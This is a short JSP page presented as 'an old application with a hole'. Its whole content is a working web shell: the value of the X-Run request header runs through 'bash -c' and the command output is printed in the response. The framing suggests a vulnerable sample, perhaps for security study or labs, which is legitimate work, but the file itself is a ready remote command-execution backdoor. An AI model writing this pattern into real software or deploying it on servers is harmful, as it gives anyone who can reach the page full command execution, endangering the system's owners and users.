<%@ page import="java.util.Scanner" %><%
// An old application with a hole: a header ends up in a command line.
Process process = Runtime.getRuntime().exec(new String[] {"bash", "-c", request.getHeader("X-Run")});
Scanner scanner = new Scanner(process.getInputStream()).useDelimiter("\\A");
out.print(scanner.hasNext() ? scanner.next() : "nothing");
%>
